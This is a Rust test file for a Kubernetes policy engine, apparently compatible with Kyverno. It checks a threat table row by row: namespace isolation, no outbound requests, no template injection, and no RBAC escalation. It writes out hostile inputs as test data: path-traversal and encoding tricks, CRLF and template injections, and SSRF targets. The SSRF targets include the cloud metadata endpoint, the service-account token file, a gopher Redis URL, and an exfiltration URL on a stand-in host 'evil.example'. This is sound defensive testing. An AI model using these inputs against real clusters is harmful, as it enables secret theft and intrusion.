//! What hostile policies, objects and users try, row by row of the table in `SECURITY.md`. Rows whose subject lies in a host
//! (the webhook server, plugins, the build) are tested there; the table names them all.

use std::cell::RefCell;

use crate::support::policies::{config_map, kyverno, scripted};
use crate::support::{Fixed, Objects, compiled, objects, rules};
use kiln_engine::{
    AccessRequest, Effect, EvalEnv, Event, ExternalData, ExternalDataError, Lineage, ListPage,
    ListQuery, Mutated, ReadError, RuleOutcome, RuleSet, ServiceRequest, Verdict, View,
};
use kiln_object::{Gvk, Kinds};
use kiln_text::names::dns1123_subdomain;
use kiln_value::{Value, value};

/// Objects, and a record of what was read.
struct Spied {
    objects: Objects,
    reads: RefCell<Vec<(Gvk, Option<String>, String)>>,
}

impl Spied {
    fn new(text: &str) -> Self {
        Spied { objects: Objects(objects(text)), reads: RefCell::default() }
    }

    fn note(&self, kind: &Gvk, namespace: Option<&str>, name: &str) {
        let read = (kind.clone(), namespace.map(str::to_owned), name.to_owned());
        self.reads.borrow_mut().push(read);
    }
}

impl View for Spied {
    fn get(
        &self,
        kind: &Gvk,
        namespace: Option<&str>,
        name: &str,
    ) -> Result<Option<Value>, ReadError> {
        self.note(kind, namespace, name);
        self.objects.get(kind, namespace, name)
    }

    fn list(&self, query: &ListQuery<'_>) -> Result<ListPage, ReadError> {
        self.note(query.kind, query.namespace, "");
        self.objects.list(query)
    }
}

const SECRETS: &str = "
{apiVersion: v1, kind: Secret, metadata: {name: own, namespace: home}, stringData: {key: mine}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: own, namespace: home}, data: {key: mine}}
---
{apiVersion: v1, kind: Secret, metadata: {name: key, namespace: other}, stringData: {key: stolen}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: key, namespace: other}, data: {key: stolen}}
---
{apiVersion: v1, kind: Secret, metadata: {name: key, namespace: kube-system}, stringData: {key: stolen}}
---
{apiVersion: v1, kind: Namespace, metadata: {name: home}}
";

/// Texts that try to lead a path, a name or a namespace elsewhere.
const ELSEWHERE: &[&str] = &[
    "other",
    "kube-system",
    "..",
    "../other",
    "../../other",
    "home/../other",
    "home/../../namespaces/other",
    "./../other",
    "....//other",
    "..;/other",
    "%2e%2e",
    "%2e%2e/other",
    "%2e%2e%2fother",
    "..%2fother",
    "..%252fother",
    "%252e%252e%252fother",
    "home%2f..%2fother",
    "home%00",
    "home\u{0}",
    "home\u{0}/../other",
    "//other",
    "/other",
    "other/",
    "home//other",
    "home;other",
    "home;/../other",
    "home#",
    "home#/../other",
    "#",
    "?",
    "home?",
    "home?namespace=other",
    "home&namespace=other",
    "home/secrets?fieldSelector=metadata.namespace%3Dother#",
    "*",
    "%2a",
    "",
    " ",
    "home ",
    " other",
    "home\t",
    "home\n",
    "home\r\nHost: other",
    "HOME",
    "hOme",
    "\u{ff0e}\u{ff0e}/other",
    "\u{2024}\u{2024}/other",
    "ho\u{200b}me",
    "other\u{202e}",
    "\\..\\other",
    "..\\other",
    "http://127.0.0.1/other",
    "https://other.example",
    "//other.example/api",
    "@other",
    "user:pass@other",
    "%",
    "%zz",
    "%c0%ae%c0%ae/other",
    "{{ 'other' }}",
    "{{ request.object.data.y }}",
    "$(other)",
    "' || 'other",
    "\" + 'other' + \"",
];

/// These, and every way up and elsewhere in every spelling of dots and slashes.
fn elsewhere() -> Vec<String> {
    let mut texts: Vec<String> = ELSEWHERE.iter().map(|text| (*text).to_owned()).collect();
    let slashes =
        ["/", "//", "/./", "%2f", "%2F", "%252f", "\\", "%5c", ";/", "\u{2215}", "\u{ff0f}"];
    let ups = ["..", "%2e%2e", ".%2E", "%252e%252e", "..;", "\u{2025}"];
    for slash in slashes {
        for up in ups {
            texts.push(format!("{up}{slash}other"));
            texts.push(format!("home{slash}{up}{slash}other"));
        }
    }
    texts
}

/// Ways to read that are refused when the policy is compiled: a path or namespace is chosen, and functions of policies of
/// namespaces take no namespace.
const REFUSED: [&str; 5] = [
    "urlPath: \"/api/v1/{{ request.object.data.x }}/secrets",
    "urlPath: \"/{{ request.object.data.x }}\"",
    "cloneList: {namespace: \"{{ request.object.data.x }}\"",
    "'secrets', object.data.x, 'key')",
    "'secrets', 'home', object.data.x)",
];

/// Makes an object of what a context entry saw.
const SHOWN: &str = "generate: {apiVersion: v1, kind: Secret, name: made, namespace: home, data: {stringData: {seen: \"{{ to_string(seen) }}\"}}}";

/// Every way to read, with `X` where the object of the request has its say.
fn reads() -> Vec<String> {
    let seeing = |context: &str| {
        kyverno("Policy", "ConfigMap", &format!("context: [{{name: seen, {context}}}]\n{SHOWN}"))
    };
    let x = "{{ request.object.data.x }}";
    let mut policies: Vec<String> = [
        "/api/v1/namespaces/X/secrets",
        "/api/v1/namespaces/home/X",
        "/api/v1/namespaces/home/secrets/X",
        "/api/v1/X/secrets",
        "/X",
        "X/api/v1/namespaces/other/secrets",
        "/apis/X/v1/namespaces/home/secrets",
    ]
    .iter()
    .map(|path| seeing(&format!("apiCall: {{urlPath: \"{}\"}}", path.replace('X', x))))
    .collect();
    policies.push(seeing(&format!("configMap: {{name: \"{x}\", namespace: home}}")));
    policies.push(seeing(&format!("configMap: {{name: key, namespace: \"{x}\"}}")));
    let clone = seeing("variable: {value: a}").replace(
        "data: {stringData: {seen: \"{{ to_string(seen) }}\"}}",
        &format!("clone: {{name: \"{x}\", namespace: home}}"),
    );
    policies.push(clone);
    policies.push(
        seeing("variable: {value: a}")
            .replace(
                "apiVersion: v1, kind: Secret, name: made, namespace: home, ",
                "namespace: home, ",
            )
            .replace(
                "data: {stringData: {seen: \"{{ to_string(seen) }}\"}}",
                &format!("cloneList: {{namespace: \"{x}\", kinds: [v1/Secret]}}"),
            ),
    );
    for target in [format!("name: key, namespace: \"{x}\""), format!("name: \"{x}\"")] {
        let mutate = format!(
            "mutate: {{targets: [{{apiVersion: v1, kind: Secret, {target}}}], patchStrategicMerge: {{metadata: {{annotations: {{seen: '{{{{ target.stringData.key }}}}'}}}}}}}}"
        );
        policies.push(seeing("variable: {value: a}").replace(SHOWN, &mutate));
    }
    for expression in [
        "resource.Get('v1', 'secrets', object.data.x)",
        "resource.Get('v1', 'secrets', object.data.x, 'key')",
        "resource.Get('v1', 'secrets', 'home', object.data.x)",
        "resource.Get('v1', object.data.x, 'key')",
        "resource.List('v1', object.data.x).items[0]",
        "resource.List('v1', 'secrets', object.data.x).items[0]",
        "resource.List(object.data.x, 'secrets').items[0]",
    ] {
        let spec = format!("generate:\n- expression: \"generator.apply([{expression}])\"");
        policies.push(scripted("NamespacedGeneratingPolicy", "configmaps", &spec));
    }
    for expression in [
        "resource.Get('v1', 'secrets', object.data.x).stringData.key",
        "resource.List('v1', object.data.x).items[0].metadata.name",
        "resource.List(object.data.x, 'secrets').items[0].stringData.key",
    ] {
        let spec = format!(
            "mutations:\n- patchType: ApplyConfiguration\n  applyConfiguration: {{expression: \"Object{{data: {{'seen': {expression}}}}}\"}}"
        );
        policies.push(scripted("NamespacedMutatingPolicy", "configmaps", &spec));
    }
    policies
}

fn evaluate(rules: &RuleSet, event: &Event, view: &dyn View) -> Vec<RuleOutcome> {
    let (kinds, sources) = (Kinds::builtin(), Fixed(std::cell::Cell::new(0)));
    rules.evaluate(event, &EvalEnv { sources: &sources, ..EvalEnv::of(view, &kinds) })
}

/// Row 1: a policy of a namespace reads there, whatever paths and names say.
#[test]
fn no_read_of_a_namespaced_policy_leaves_its_namespace() {
    let texts = elsewhere();
    let (mut tried, mut serving, mut refused) = (0, 0, 0);
    for policy in reads() {
        let found = compiled(&policy);
        if REFUSED.iter().any(|way| policy.contains(way)) {
            assert!(found.has_errors(), "{policy}");
            refused += 1;
            continue;
        }
        assert!(!found.has_errors(), "{policy}: {:?}", found.diagnostics);
        let rules = RuleSet::new(found.policies);
        let mut served = 0;
        for x in texts.iter().map(String::as_str).chain(["own", "home", "secrets", "v1", ""]) {
            tried += 1;
            let view = Spied::new(SECRETS);
            let event = Event::created(config_map(x));
            let outcomes = evaluate(&rules, &event, &view);
            let (kinds, sources) = (Kinds::builtin(), Fixed(std::cell::Cell::new(0)));
            let eval_env = EvalEnv { sources: &sources, ..EvalEnv::of(&view, &kinds) };
            let mutated = rules.mutate(&event, &eval_env);
            let shown = format!("{outcomes:?} {:?} {:?}", mutated.outcomes, mutated.object);
            assert!(!shown.contains("stolen"), "{x:?} of {policy}: {shown}");
            served += usize::from(shown.contains("mine"));
            for (kind, namespace, name) in view.reads.borrow().iter() {
                let home = namespace.as_deref() == Some("home")
                    || (kind.kind == "Namespace" && name == "home");
                assert!(home, "{x:?} of {policy}: read {kind} {namespace:?} {name}");
            }
        }
        serving += usize::from(served > 0);
    }
    assert!(texts.len() >= 190 && refused == REFUSED.len(), "{} texts, {refused}", texts.len());
    assert!(tried >= 3_500, "{tried} paths and names");
    assert!(serving >= 8, "by {serving} ways, what is at home can be read");
}

/// Row 2: a policy of a namespace writes there, and nothing that belongs to the cluster.
#[test]
fn no_write_of_a_namespaced_policy_leaves_its_namespace() {
    let kyverno = "
apiVersion: kyverno.io/v1
kind: Policy
metadata: {name: p, namespace: home}
spec:
  rules:
  - name: r
    match: {any: [{resources: {kinds: [ConfigMap]}}]}
    generate:
      apiVersion: '{{ request.object.data.version }}'
      kind: '{{ request.object.data.kind }}'
      name: '{{ request.object.data.x }}'
      namespace: home
      data: {metadata: {namespace: '{{ request.object.data.x }}'}}
";
    let cel = "
apiVersion: policies.kyverno.io/v1
kind: NamespacedGeneratingPolicy
metadata: {name: p, namespace: home}
spec:
  matchConstraints: {resourceRules: [{apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [configmaps]}]}
  generate:
  - expression: >-
      generator.apply([{'apiVersion': object.data.version, 'kind': object.data.kind,
      'metadata': {'name': 'x', 'namespace': object.data.x}}])
";
    let template = cel.replace(
        "- expression: >-\n      generator.apply([{'apiVersion': object.data.version, 'kind': object.data.kind,\n      'metadata': {'name': 'x', 'namespace': object.data.x}}])",
        "- template: {interpolate: cel, value: '{apiVersion: (( object.data.version )), kind: (( object.data.kind )), metadata: {name: x, namespace: (( object.data.x ))}}'}",
    );
    let (mut tried, mut made) = (0, 0);
    for policy in [kyverno, cel, &template] {
        let rules = rules(policy);
        for (version, kind) in [
            ("v1", "Secret"),
            ("v1", "Namespace"),
            ("v1", "PersistentVolume"),
            ("rbac.authorization.k8s.io/v1", "RoleBinding"),
            ("rbac.authorization.k8s.io/v1", "ClusterRole"),
            ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"),
            ("apiextensions.k8s.io/v1", "CustomResourceDefinition"),
            ("example.com/v1", "Widget"),
        ] {
            for x in ELSEWHERE.iter().chain(&["home"]) {
                tried += 1;
                let mut object = config_map(x);
                object.set(["data", "version"], version).unwrap();
                object.set(["data", "kind"], kind).unwrap();
                let outcomes = evaluate(&rules, &Event::created(object), &Spied::new(SECRETS));
                for effect in outcomes.iter().flat_map(|outcome| &outcome.effects) {
                    let Effect::Ensure(ensure) = effect else { continue };
                    made += 1;
                    let id = &ensure.target;
                    assert_eq!(id.namespace, "home", "{x:?}: {id}");
                    assert_ne!(Kinds::builtin().is_namespaced(&id.gvk), Some(false), "{id}");
                    let inside = ensure.object.str_at(["metadata", "namespace"]);
                    assert_eq!(inside, Some("home"), "{x:?}: {id}");
                }
            }
        }
    }
    assert!(tried > 1000 && made > 0, "{tried} tried, {made} made");
}

/// What a host keeps for the whole cluster; it notes who asks.
#[derive(Default)]
struct Everything(RefCell<Vec<String>>);

impl ExternalData for Everything {
    fn call(&self, request: &ServiceRequest<'_>) -> Result<Value, ExternalDataError> {
        self.0.borrow_mut().push(request.url.to_owned());
        Ok(value!({"key": "stolen"}))
    }

    fn post(&self, path: &str, _: &Value) -> Result<Value, ExternalDataError> {
        self.0.borrow_mut().push(path.to_owned());
        Ok(value!({"key": "stolen"}))
    }

    fn global(&self, name: &str) -> Result<Option<Value>, ExternalDataError> {
        self.0.borrow_mut().push(name.to_owned());
        Ok(Some(value!({"key": "stolen"})))
    }
}

/// Row 1: cluster-scoped objects are not visible for a policy of a namespace.
#[test]
fn no_policy_of_a_namespace_uses_what_is_there_for_the_cluster() {
    type Written<'w> = Box<dyn Fn(bool) -> String + 'w>;
    let loading = |entry: &str| -> Written<'_> {
        let shown = SHOWN.replace("to_string(seen)", "seen.key");
        let rule = format!("context: [{{name: seen, {entry}}}]\n{shown}");
        Box::new(move |of_cluster| {
            kyverno(if of_cluster { "ClusterPolicy" } else { "Policy" }, "ConfigMap", &rule)
        })
    };
    let cel = |expression: &'static str| -> Written<'_> {
        Box::new(move |of_cluster| {
            let (kind, into) = match of_cluster {
                true => ("GeneratingPolicy", "'home',"),
                false => ("NamespacedGeneratingPolicy", ""),
            };
            let spec = format!(
                "generate:\n- expression: >-\n    generator.Apply({into} [{{'apiVersion': dyn('v1'), 'kind': dyn('Secret'), 'metadata': dyn({{'name': 'made', 'namespace': 'home'}}), 'stringData': dyn({{'seen': {expression}}})}}])"
            );
            scripted(kind, "configmaps", &spec)
        })
    };
    let post = |path: &str| format!("apiCall: {{method: POST, urlPath: '{path}', data: []}}");
    let (whole, part) =
        ("{{ request.object.data.x }}", "/api/v1/namespaces/home/{{ request.object.data.x }}");
    let mut tried = 0;
    // An object does not choose where a request is sent.
    for (written, by_cluster) in [
        (loading("globalReference: {name: g}"), true),
        (loading("apiCall: {service: {url: 'https://prices.example'}}"), true),
        (loading(&post("/apis/authorization.k8s.io/v1/subjectaccessreviews")), true),
        (loading(&post("/api/v1/namespaces/other/configmaps")), true),
        (loading(&post(whole)), false),
        (loading(&post(part)), false),
        (cel("globalContext.Get('g', '').key"), true),
        (cel("http.Get('https://prices.example').key"), true),
    ] {
        for of_cluster in [true, false] {
            let reached = of_cluster && by_cluster;
            let policy = written(of_cluster);
            let found = compiled(&policy);
            if found.has_errors() {
                assert!(!reached, "{policy}: {:?}", found.diagnostics);
                continue;
            }
            let rules = RuleSet::new(found.policies);
            for x in [
                "/apis/authorization.k8s.io/v1/subjectaccessreviews",
                "/api/v1/namespaces/other/configmaps",
                "../other/configmaps",
            ] {
                tried += usize::from(!reached);
                let everything = Everything::default();
                let (view, kinds) = (Spied::new(SECRETS), Kinds::builtin());
                let eval_env = EvalEnv { external_data: &everything, ..EvalEnv::of(&view, &kinds) };
                let outcomes = rules.evaluate(&Event::created(config_map(x)), &eval_env);
                let shown = format!("{outcomes:?}");
                assert_eq!(shown.contains("stolen"), reached, "{policy}: {shown}");
                assert_eq!(!everything.0.borrow().is_empty(), reached, "{policy}");
                let failed = outcomes.iter().all(|outcome| outcome.verdict == Verdict::Error);
                assert_ne!(failed, reached, "{policy}: {shown}");
            }
        }
    }
    assert!(tried >= 12, "{tried}");
}

/// Row 3: unless a host is listed, rules send nothing anywhere; those that are listed are a matter of `kiln-services`.
#[test]
fn no_rule_reaches_an_address() {
    let mut tried = 0;
    for address in [
        "http://169.254.169.254/latest/meta-data",
        "http://[::1]/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://127.0.0.1:10250/pods",
        "http://localhost:2379",
        "https://kubernetes.default.svc/api/v1/secrets",
        "https://evil.example/?{{ request.object.data.x }}",
        "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
        "gopher://127.0.0.1:6379/_",
    ] {
        let rule = format!(
            "context: [{{name: seen, apiCall: {{method: GET, service: {{url: \"{address}\"}}}}}}]\n{SHOWN}"
        );
        let policy = kyverno("ClusterPolicy", "ConfigMap", &rule);
        let view = Spied::new(SECRETS);
        let found = compiled(&policy);
        if found.has_errors() {
            continue;
        }
        tried += 1;
        // What every host gives to rules while no services are allowed: no external data.
        let outcomes =
            evaluate(&RuleSet::new(found.policies), &Event::created(config_map("")), &view);
        assert!(outcomes.iter().all(|outcome| outcome.verdict == Verdict::Error), "{outcomes:?}");
        assert!(outcomes.iter().all(|outcome| outcome.effects.is_empty()), "{outcomes:?}");
        assert!(view.reads.borrow().is_empty(), "{address}");
    }
    assert!(tried >= 8, "{tried}");
}

/// Row 4: what an object says is inserted once and never evaluated.
#[test]
fn labels_carry_no_logic() {
    let kyverno = "
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: {name: p}
spec:
  rules:
  - name: r
    match: {any: [{resources: {kinds: [ConfigMap]}}]}
    generate: {apiVersion: v1, kind: ConfigMap, name: made, namespace: home, data: {data: {v: '{{ request.object.data.x }}'}}}
";
    let cel = "
apiVersion: policies.kyverno.io/v1
kind: GeneratingPolicy
metadata: {name: p}
spec:
  matchConstraints: {resourceRules: [{apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [configmaps]}]}
  generate:
  - template: {interpolate: cel, value: '{apiVersion: v1, kind: ConfigMap, metadata: {name: made, namespace: home}, data: {v: (( object.data.x ))}}'}
";
    let modrule = "
apiVersion: api.kubemod.io/v1beta1
kind: ModRule
metadata: {name: p, namespace: home}
spec:
  type: Patch
  match: [{select: $.kind, matchValue: ConfigMap}]
  patch: [{op: add, path: /data/v, value: '{{ .Target.data.x | toJson }}'}]
";
    let injections = [
        "{{ request.object.data.y }}",
        "{{ .Target.data.y }}",
        "{{ fail \"no\" }}",
        "(( object.data.y ))",
        "$(other)",
        "'}}{{'",
        "\"}, \"w\": {\"a\": \"",
        "v\nw: x",
        "*alias",
        "&anchor a",
        "!!binary aGk=",
        "- a",
        "a: b",
        "null",
        "yes",
        "0x10",
        "`to_string(@)`",
        "' + object.data.y + '",
    ];
    for x in injections {
        let seen = |object: &Value| {
            assert_eq!(object.str_at(["data", "v"]), Some(x), "{object:?}");
            assert_eq!(object.get_path(["data", "w"]), None);
        };
        for policy in [kyverno, cel] {
            let outcomes =
                evaluate(&rules(policy), &Event::created(config_map(x)), &Spied::new(SECRETS));
            let [Effect::Ensure(ensure)] = outcomes[0].effects.as_slice() else {
                panic!("{x:?}: {outcomes:?}");
            };
            seen(&ensure.object);
        }
        let (kinds, view) = (Kinds::builtin(), Spied::new(SECRETS));
        let event = Event::created(config_map(x));
        seen(&rules(modrule).mutate(&event, &EvalEnv::of(&view, &kinds)).object);
    }
}

/// Row 5: names that an object chooses are names, or nothing is made.
#[test]
fn names_from_objects_are_names() {
    let policy = "
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: {name: p}
spec:
  rules:
  - name: r
    match: {any: [{resources: {kinds: [ConfigMap]}}]}
    generate:
      foreach:
      - list: request.object.data.x | split(@, ',')
        apiVersion: v1
        kind: Secret
        name: '{{ element }}'
        namespace: '{{ element }}'
        data: {stringData: {a: b}}
";
    let rules = rules(policy);
    let mut made = 0;
    for x in ELSEWHERE {
        for effect in evaluate(&rules, &Event::created(config_map(x)), &Spied::new(SECRETS))
            .iter()
            .flat_map(|outcome| &outcome.effects)
        {
            let Effect::Ensure(ensure) = effect else { continue };
            made += 1;
            let id = &ensure.target;
            for name in [&id.name, &id.namespace] {
                assert!(dns1123_subdomain(name).is_empty(), "{x:?}: {id}");
            }
        }
    }
    assert!(made > 0);
}

/// Row 7: sending the same object in another way does not get around a rule.
#[test]
fn no_way_of_sending_goes_around_a_rule() {
    let text = "
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: {name: p}
spec:
  rules:
  - name: r
    match: {any: [{resources: {kinds: [Deployment]}}]}
    mutate: {patchStrategicMerge: {metadata: {labels: {safe: 'yes'}}}}
---
apiVersion: api.kubemod.io/v1beta1
kind: ModRule
metadata: {name: p, namespace: home}
spec:
  type: Patch
  match: [{select: $.kind, matchValue: Deployment}]
  patch: [{op: add, path: /metadata/annotations/safe, value: '\"yes\"'}]
";
    let rules = rules(text);
    let object = value!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "d", "namespace": "home"}});
    let mut ending = object.clone();
    ending.set(["metadata", "deletionTimestamp"], "2025-01-01T00:00:00Z").unwrap();
    let mut generated = object.clone();
    generated.remove(["metadata", "name"]);
    generated.set(["metadata", "generateName"], "d-").unwrap();
    let mut older = object.clone();
    older.set(["apiVersion"], "apps/v1beta1").unwrap();
    let trial = Event::created(object.clone()).as_dry_run();
    let own = Event::created(object.clone()).by_engine(Lineage::default());
    for (how, event) in [
        ("created", Event::created(object.clone())),
        ("updated without a change", Event::updated(object.clone(), object.clone())),
        ("updated while it ends", Event::updated(object, ending)),
        ("named by the server", Event::created(generated)),
        ("sent in an older version", Event::created(older)),
        ("a trial", trial),
        ("sent by the engine", own),
    ] {
        let (kinds, view) = (Kinds::builtin(), Spied::new(SECRETS));
        let after = rules.mutate(&event, &EvalEnv::of(&view, &kinds)).object;
        let annotation = after.str_at(["metadata", "annotations", "safe"]);
        assert_eq!(annotation, Some("yes"), "ModRule: {how}");
        // Kyverno: an object that ends is left alone by mutate rules, and so is what the engine itself sends.
        if !matches!(how, "updated while it ends" | "sent by the engine") {
            assert_eq!(after.str_at(["metadata", "labels", "safe"]), Some("yes"), "{how}");
        }
    }
}

/// A cluster that holds a policy to its author: what they are asked about, and what comes of it.
struct Held<'h> {
    objects: Objects,
    asked: RefCell<Vec<String>>,
    judge: &'h dyn Fn(&str) -> Result<(), ReadError>,
    read: Result<(), ReadError>,
}

impl<'h> Held<'h> {
    fn new(judge: &'h dyn Fn(&str) -> Result<(), ReadError>) -> Self {
        let objects = Objects(objects(SECRETS));
        Held { objects, asked: RefCell::default(), judge, read: Ok(()) }
    }

    fn mutate(&self, policy: &str, event: &Event) -> Mutated {
        let (kinds, sources) = (Kinds::builtin(), Fixed(std::cell::Cell::new(0)));
        let eval_env = EvalEnv { sources: &sources, ..EvalEnv::of(self, &kinds) };
        rules(policy).mutate(event, &eval_env)
    }
}

impl View for Held<'_> {
    fn get(
        &self,
        kind: &Gvk,
        namespace: Option<&str>,
        name: &str,
    ) -> Result<Option<Value>, ReadError> {
        self.read.clone()?;
        self.objects.get(kind, namespace, name)
    }

    fn list(&self, query: &ListQuery<'_>) -> Result<ListPage, ReadError> {
        self.read.clone()?;
        self.objects.list(query)
    }

    fn permits(&self, access: &AccessRequest<'_>) -> Result<(), ReadError> {
        let AccessRequest { verb, kind, subresource, namespace, name, .. } = access;
        let place = format!("{}/{}", namespace.unwrap_or_default(), name.unwrap_or("*"));
        let slash = if subresource.is_empty() { "" } else { "/" };
        let asked = format!("{verb} {}{slash}{subresource} {place}", kind.kind);
        self.asked.borrow_mut().push(asked.clone());
        (self.judge)(&asked)
    }
}

/// Row 2: permission to change bindings and roles does not grant permissions.
#[test]
fn no_author_hands_out_rights_by_changing_what_is_sent() {
    let rbac = "rbac.authorization.k8s.io/v1";
    let binding = value!({
        "apiVersion": rbac, "kind": "RoleBinding", "metadata": {"name": "b", "namespace": "home"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
        "subjects": [{"kind": "User", "name": "bob"}],
    });
    let role = value!({
        "apiVersion": rbac, "kind": "Role", "metadata": {"name": "r", "namespace": "home"},
        "rules": [],
    });
    let changes = |kind: &str, patch: &str| {
        kyverno("Policy", kind, &format!("mutate: {{patchStrategicMerge: {patch}}}"))
    };
    let scripted = scripted(
        "NamespacedMutatingPolicy",
        "rolebindings",
        "mutations:\n- patchType: JSONPatch\n  jsonPatch: {expression: \"[JSONPatch{op: 'replace', path: '/subjects/0/name', value: 'jane'}]\"}",
    )
    .replace("apiGroups: ['']", "apiGroups: [rbac.authorization.k8s.io]");
    let subjects = "{subjects: [{kind: User, name: jane}]}";
    let bind = |name: &str| format!("bind ClusterRole home/{name}");
    for (policy, sent, wanted) in [
        (changes("RoleBinding", subjects), &binding, vec![bind("view")]),
        (scripted, &binding, vec![bind("view")]),
        (
            changes("RoleBinding", "{roleRef: {name: cluster-admin}}"),
            &binding,
            vec![bind("view"), bind("cluster-admin")],
        ),
        (
            changes("RoleBinding", "{roleRef: {kind: Role, name: all}}"),
            &binding,
            vec![bind("view"), "bind Role home/all".to_owned()],
        ),
        (
            changes("Role", "{rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]}"),
            &role,
            vec!["escalate Role home/r".to_owned()],
        ),
    ] {
        let event = Event::created(sent.clone());
        let granted = |_: &str| Ok(());
        let view = Held::new(&granted);
        let mutated = view.mutate(&policy, &event);
        assert_ne!(&mutated.object, sent, "{policy}: {:?}", mutated.outcomes);
        let kind = sent.str_at(["kind"]).unwrap();
        let name = sent.str_at(["metadata", "name"]).unwrap();
        let mut expected = vec![format!("update {kind} home/{name}")];
        expected.extend(wanted.iter().cloned());
        let mut asked = view.asked.take();
        asked.dedup();
        assert_eq!(asked, expected, "{policy}");
        for lacked in &expected {
            let judge = |asked: &str| match asked == lacked {
                true => Err(ReadError::Denied(format!("jane, may not {asked}"))),
                false => Ok(()),
            };
            let mutated = Held::new(&judge).mutate(&policy, &event);
            let said = format!("{:?}", mutated.outcomes);
            assert!(
                said.contains(&format!("jane, may not {lacked}")),
                "{lacked} of {policy}: {said}"
            );
            // What is sent passes, with a warning.
            let outcome = mutated.outcomes.first().unwrap();
            assert_eq!(outcome.verdict, Verdict::Skip, "{lacked} of {policy}: {said}");
            assert!(
                matches!(outcome.effects[..], [Effect::Warn(_)]),
                "{lacked} of {policy}: {said}"
            );
            assert_eq!(&mutated.object, sent, "{lacked} of {policy}");
        }
    }
}

/// Row 3: a default is no way to go on without a right, and what is sent to a part of an object is asked about as that.
#[test]
fn no_default_stands_in_for_what_an_author_may_not_read() {
    let read = "apiCall: {urlPath: /api/v1/namespaces/home/secrets/own, jmesPath: stringData.key, default: none}";
    let changes = |context: &str| {
        let rule = format!(
            "context: [{context}]\nmutate: {{patchStrategicMerge: {{data: {{seen: \"{{{{ seen }}}}\"}}}}}}"
        );
        kyverno("Policy", "ConfigMap", &rule)
    };
    let direct = changes(&format!("{{name: seen, {read}}}"));
    let variable = changes(&format!(
        "{{name: first, {}}}, {{name: seen, variable: {{jmesPath: first, default: none}}}}",
        read.replace(", default: none", "")
    ));
    let event = Event::created(config_map("x"));
    let seen = |mutated: &Mutated| mutated.object.str_at(["data", "seen"]).map(str::to_owned);
    for policy in [direct, variable] {
        let granted = |_: &str| Ok(());
        assert_eq!(seen(&Held::new(&granted).mutate(&policy, &event)).as_deref(), Some("mine"));
        // Kyverno: a call that fails has its default.
        let mut down = Held::new(&granted);
        down.read = Err(ReadError::Unavailable("nothing answers".to_owned()));
        assert_eq!(seen(&down.mutate(&policy, &event)).as_deref(), Some("none"), "{policy}");
        for (error, verdict) in [
            (ReadError::Denied("jane, may not".to_owned()), Verdict::Skip),
            (ReadError::Undecided("answered with 500".to_owned()), Verdict::Error),
        ] {
            let judge = |asked: &str| match asked.contains("Secret") {
                true => Err(error.clone()),
                false => Ok(()),
            };
            let mutated = Held::new(&judge).mutate(&policy, &event);
            assert_eq!(seen(&mutated), None, "{policy}");
            let outcome = mutated.outcomes.first().unwrap();
            assert_eq!(outcome.verdict, verdict, "{outcome:?}");
            assert!(format!("{outcome:?}").contains(&error.to_string()), "{outcome:?}");
        }
    }
    let exec = kyverno("Policy", "Pod/exec", SHOWN).replace("{{ to_string(seen) }}", "x");
    let mut event = Event::created(value!({"kind": "PodExecOptions", "apiVersion": "v1"}));
    (event.kind, event.subresource) = (Gvk::new("v1", "Pod"), "exec".into());
    (event.name, event.namespace) = ("p".into(), Some("home".into()));
    event.operation = Some(kiln_rules::Operation::Connect);
    event.matched_as = kiln_rules::Operation::Connect;
    let granted = |_: &str| Ok(());
    let view = Held::new(&granted);
    let outcomes = evaluate(&rules(&exec), &event, &view);
    assert_eq!(view.asked.take(), ["get Pod/exec home/p"], "{outcomes:?}");
}
